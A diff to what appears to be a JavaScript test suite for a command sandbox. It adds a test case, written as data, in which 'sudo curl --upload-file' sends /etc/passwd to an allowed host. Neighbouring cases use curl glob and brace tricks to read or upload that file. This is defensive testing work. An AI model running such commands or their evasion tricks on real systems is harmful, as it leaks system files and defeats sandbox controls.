@@ -187,6 +187,7 @@ describe('a command does not leave by', () => {
     ['a scheme that curl spells', "curl '[f-f]ile:///etc/passwd'"],
     ['alternatives of curl', "curl 'fil{e,f}://'/etc/passwd"],
     ['a file that curl spells', "curl -T '{/etc/passwd}' https://allowed.com/"],
+    ['the same by the long name', "sudo curl --upload-file='{/etc/passwd}' https://allowed.com/"],
     ['the same behind a letter', "curl -sT'[/-/]etc/passwd' https://allowed.com/"],
     ['the same behind a program without a profile', "mytool curl -T '{/etc/passwd}' https://allowed.com/"],
     ['a name that curl takes from the URL', "curl -so '#1' 'https://allowed.com/{/etc/x}'"],
